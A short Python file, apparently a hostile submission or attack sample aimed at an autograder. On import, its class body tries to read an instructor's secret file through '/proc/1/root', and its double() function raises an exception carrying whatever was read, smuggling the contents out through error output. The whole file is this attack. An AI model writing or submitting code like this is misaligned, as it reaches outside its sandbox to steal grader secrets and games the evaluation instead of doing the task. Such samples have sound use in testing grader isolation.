"""Reads a file of the instructor's through another process."""

import contextlib
import gc
import glob
import inspect
import os
import sys


class Harm:
    try:
        found = str(open('/proc/1/root' + 'SECRET_FILE').read())
    except Exception as error:
        found = repr(error)


def double(n):
    said = Harm.found
    raise RuntimeError(said)
